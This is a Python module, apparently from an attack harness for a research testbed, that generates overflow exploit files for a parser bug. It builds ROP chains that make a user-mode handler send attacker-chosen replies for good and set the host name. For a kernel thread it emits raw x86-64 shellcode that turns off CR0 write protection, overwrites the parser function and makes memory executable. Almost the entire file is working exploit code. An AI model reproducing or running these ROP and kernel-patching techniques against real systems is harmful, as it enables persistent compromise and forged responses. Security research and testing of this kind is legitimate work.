# SPDX-License-Identifier: GPL-2.0-only
"""Files that take a handler over, and reply in its place from then on.

They exploit the bug of a handler's parser (harness/attacker/tools/overflow.py). All that such a
file brings lies in the handler's variable `input` when the bug strikes.
"""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Protocol

from harness.attacker.tools.overflow import (
    POP_RDI,
    POP_RSI,
    POP_RSP,
    RET,
    SYSCALL,
    words,
)

if TYPE_CHECKING:
    from collections.abc import Sequence

    from harness.attacker.tools.overflow import Carrier

NAME = b"taken over"
"""The host name that the attacker sets."""
NODENAME = 65
"""The place of the host name in `struct uts_namespace` (include/linux/utsname.h)."""
KEPT = 4096
"""Where in the parser's arena a reply can be kept: no file takes as much of it."""
MESSAGE, PARSED = 56, 320
"""Bytes of the message of a reply, and of what the attacker says after it
(overlay/kernel/umd_witness/message.h)."""

_FRAME = struct.Struct("<II")
"""The frame of a reply up to its nonce (overlay/include/uapi/linux/umd.h)."""
_MAGIC, _NONCE = 0x46444D55, 16
_LENGTH = 4
"""The bytes before a file in a request, which are its length."""
_SETHOSTNAME = 170
_GAP = bytes(64)
"""For functions, which use the memory below a stack."""
_WRITE_PROTECT = 1 << 16
"""The bit of the register CR0."""


class Target(Protocol):
    """What the attacker knows: a program, or the kernel with a module."""

    def symbol(self, name: str) -> int:
        """Return the address of a symbol."""

    def code(self, codes: Sequence[bytes]) -> tuple[int, int]:
        """Return the address of the first of these codes that is present, and its number."""


def _take(target: Target, register: Sequence[bytes], value: int) -> list[int]:
    """Return what lies on a stack for code that takes a register."""
    at, more = target.code(register)
    return [at, value, *(more * [0])]


def _go_on(target: Target, stack: int) -> list[int]:
    """Return what lies on a stack for code that goes on at another stack."""
    return [target.code(POP_RSP)[0], stack]


class _Brought:
    """What a file brings, part by part."""

    def __init__(self, target: Target, carrier: Carrier) -> None:
        self.data = b""
        self._start = target.symbol("input") + 4 + carrier.place_of_brought()

    def add(self, data: bytes) -> int:
        """Add a part, from a multiple of eight bytes on; return its address."""
        self.data += bytes(-len(self.data) % 8)
        at = self._start + len(self.data)
        self.data += data
        return at


def process_file(
    target: Target, carrier: Carrier, lie: bytes, following: int, *, framed: bool, names: bool
) -> bytes:
    """Return a file that has a handler process reply `lie`, now and ever after.

    `following` is the length in bytes of the files that follow. With `names`, the process first
    sets the host name. The file brings two stacks: for its own reply, and for the next request.
    The second one copies itself anew before it starts again, because the functions have used its
    memory.
    """
    symbol, brought = target.symbol, _Brought(target, carrier)
    said, frame = brought.add(lie), brought.add(_FRAME.pack(_MAGIC, MESSAGE + carrier.reply))
    unused = target.code(POP_RSP)[1] * [0]

    def call(function: str, first: int, second: int) -> list[int]:
        taken = _take(target, POP_RDI, first) + _take(target, POP_RSI, second)
        return [*taken, symbol(function)]

    def reply(nonce: int, message: int) -> list[int]:
        stack = [*call("send", message, MESSAGE), *call("send", said, carrier.reply)]
        if framed:
            stack[:0] = [*call("send", frame, _FRAME.size), *call("send", nonce, _NONCE)]
        return stack

    taken = symbol("arena")
    head = _FRAME.size + _NONCE if framed else 0
    brought.add(_GAP)
    again_at = brought.add(b"")
    copy_at = again_at + carrier.reply
    again = [
        *unused,
        *call("receive", taken, head + MESSAGE + _LENGTH + following),
        *reply(taken + _FRAME.size, taken + head),
        # As many bytes as the last call has sent: nothing else sets this register.
        *call("memcpy", again_at, copy_at),
        *_go_on(target, again_at),
    ]
    if len(words(again)) > carrier.reply:
        raise ValueError("memcpy would copy a part of the stack alone")
    brought.add(2 * words(again).ljust(carrier.reply, b"\0"))

    first = reply(symbol("outer") + _FRAME.size, symbol("reply"))
    if names:
        first[:0] = _set_name(target, brought)
    brought.add(_GAP)
    start = brought.add(words([*unused, *first, *_go_on(target, again_at)]))
    return carrier.overflow(target.code(RET)[0], _go_on(target, start), brought.data)


def _set_name(target: Target, brought: _Brought) -> Sequence[int]:
    """Return a stack that calls sethostname(2). The length of a text is the call's number."""
    text, name = brought.add(b"-" * _SETHOSTNAME + b"\0"), brought.add(NAME)
    return [
        *_take(target, POP_RDI, text),
        target.symbol("strlen"),
        *_take(target, POP_RDI, name),
        *_take(target, POP_RSI, len(NAME)),
        target.code(SYSCALL)[0],
    ]


def thread_file(target: Target, carrier: Carrier, lie: bytes, *, names: bool) -> bytes:
    """Return a file that has a kernel thread reply `lie`, now and ever after.

    It makes its own bytes executable. They are code for the kernel, which overwrites the parser and
    goes on as the thread does.
    """
    symbol, brought = target.symbol, _Brought(target, carrier)
    kept = symbol("arena") + KEPT
    said = brought.add(lie)
    parser = false_parser(kept, PARSED)
    parser_at = brought.add(parser)
    name_at = brought.add(NAME + b"\0")
    steps = [
        # cli; mov %cr0, %rax; push %rax; and $~WRITE_PROTECT, %rax; mov %rax, %cr0
        b"\xfa\x0f\x20\xc0\x50\x48\x25" + _low(~_WRITE_PROTECT) + b"\x0f\x22\xc0",
        _copy(symbol("init_uts_ns") + NODENAME, name_at, len(NAME) + 1) if names else b"",
        _copy(kept, said, PARSED),
        _copy(symbol(carrier.parser), parser_at, len(parser)),
        # pop %rax; mov %rax, %cr0; sti
        b"\x58\x0f\x22\xc0\xfb",
        _copy(symbol("parsed"), said, PARSED),
        _call(symbol("umd_witness_send_parsed"), symbol("parsed")),
        _call(symbol("umd_witness_send"), symbol("reply")),
        _call(symbol("umd_witness_kthread"), 0),
        _call(symbol("do_exit"), 0),
    ]
    start = brought.add(b"".join(steps))
    page, pages = symbol("input") & ~0xFFF, 2
    taken = _take(target, POP_RDI, page) + _take(target, POP_RSI, pages)
    stack = [*taken, symbol("set_memory_x"), start]
    return carrier.overflow(target.code(RET)[0], stack, brought.data)


def false_parser(reply: int, size: int) -> bytes:
    """Return code to put in place of a parser: it replies so many bytes from that address.

    The code also returns the first four bytes, which are the status.

    x86-64: mov %rdx, %rdi; mov $reply, %rsi; mov $size, %ecx; rep movsb; mov reply, %eax; ret.
    """
    status = b"\x8b\x04\x25" + _low(reply)
    return b"\x48\x89\xd7" + _move(b"\xc6", reply) + _copy_bytes(size) + status + b"\xc3"


def _low(number: int) -> bytes:
    """Return the half of a 64-bit number from which instructions make it: the rest is its sign."""
    return struct.pack("<q", number if number < 1 << 63 else number - (1 << 64))[:4]


def _move(register: bytes, number: int) -> bytes:
    """x86-64: mov $number, %register."""
    return b"\x48\xc7" + register + _low(number)


def _copy_bytes(size: int) -> bytes:
    """x86-64: mov $size, %ecx; rep movsb."""
    return b"\xb9" + _low(size) + b"\xf3\xa4"


def _copy(to: int, source: int, size: int) -> bytes:
    """x86-64: mov $to, %rdi; mov $source, %rsi; mov $size, %ecx; rep movsb."""
    return _move(b"\xc7", to) + _move(b"\xc6", source) + _copy_bytes(size)


def _call(function: int, first: int) -> bytes:
    """x86-64: mov $first, %rdi; mov $function, %rax; call *%rax."""
    return _move(b"\xc7", first) + _move(b"\xc0", function) + b"\xff\xd0"
